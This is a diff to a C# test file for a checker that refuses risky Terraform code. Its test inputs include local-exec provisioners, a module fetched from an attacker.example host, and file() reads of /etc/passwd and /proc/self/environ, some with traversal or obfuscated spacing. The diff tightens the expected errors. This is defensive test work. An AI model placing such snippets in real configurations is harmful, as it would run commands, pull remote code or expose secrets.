@@ -16,7 +16,7 @@ public sealed class RepositoryCheckTests
     [InlineData("data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n}", 1, "another provider")]
     [InlineData("resource \"null_resource\" \"x\" {}", 1, "another provider")]
     [InlineData("resource \"aws_iam_role\" \"x\" {\n\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}", 3, "would run code")]
-    [InlineData("resource \"terraform_data\" \"x\" { provisioner \"local-exec\" { command = \"id\" } }", 1, "one line", false)]
+    [InlineData("resource \"terraform_data\" \"x\" { provisioner \"local-exec\" { command = \"id\" } }", 1, "would run code")]
     [InlineData("removed {\n  from = aws_iam_role.x\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}", 3, "would run code")]
     [InlineData("module \"m\" {\n  source = \"git::https://attacker.example/m.git\"\n}", 2, "not in the repository")]
     [InlineData("module \"m\" {\n  source = \"terraform-aws-modules/vpc/aws\"\n  version = \"5.0.0\"\n}", 2, "not in the repository")]
@@ -38,7 +38,7 @@ public sealed class RepositoryCheckTests
     [InlineData("provider \"kubernetes\" {}", 1, "not the one of AWS")]
     [InlineData("action \"aws_lambda_invoke\" \"x\" {}", 1, "not known")]
     [InlineData("locals {\n  x = file(\"/proc/self/environ\")\n}", 2, "may read only")]
-    [InlineData("locals {\n  x = file\n    (\"/etc/passwd\")\n}", 0, "may read only")]
+    [InlineData("locals {\n  x = file\n    (\"/etc/passwd\")\n}", 3, "not understood")]
     [InlineData("locals {\n  x = [\n    file /* */ (\"../../../etc/passwd\")\n  ]\n}", 3, "may read only")]
     [InlineData("locals {\n  x = filebase64(\"${path.module}/../../etc/passwd\")\n}", 2, "may read only")]
     [InlineData("locals {\n  x = file(var.name)\n}", 2, "may read only")]
@@ -56,14 +56,13 @@ public sealed class RepositoryCheckTests
     [InlineData("locals {\n  x = fileset(\"/\", \"**\")\n}", 2, "may read only")]
     [InlineData("locals {\n  x = fileset(path.module, \"../**\")\n}", 2, "may read only")]
     [InlineData("\u0430ws = 1", 1, "not understood")]
-    [InlineData("resource \"aws_iam_role\" \"x\" {", 1, "")]
+    [InlineData("resource \"aws_iam_role\" \"x\" {", 2, "a brace is missing")]
     [InlineData("}", 1, "a brace too many")]
-    public async Task A5_code_that_could_run_fetch_or_read_anything_is_refused(string code, int line, string why, bool saysWhy = true)
+    public async Task A5_code_that_could_run_fetch_or_read_anything_is_refused(string code, int line, string why)
     {
         var refused = await CheckedRepository.CheckAsync(code);
         refused.ShouldNotBeEmpty();
-        if (saysWhy && line > 0)
-            refused[0].ShouldSatisfyAllConditions(r => r.ShouldStartWith($"refused main.tf:{line}: "), r => r.ShouldContain(why));
+        refused[0].ShouldSatisfyAllConditions(r => r.ShouldStartWith($"refused main.tf:{line}: "), r => r.ShouldContain(why));
     }
 
     [Theory]
@@ -79,7 +78,7 @@ public sealed class RepositoryCheckTests
         using var repository = new CheckedRepository();
         repository.Write("main.tf", "locals {}\n");
         repository.Write(path, "{}");
-        (await repository.CheckAsync()).ShouldHaveSingleItem().ShouldStartWith("refused ");
+        (await repository.CheckAsync()).ShouldNotBeEmpty();
     }
 
     [Fact]
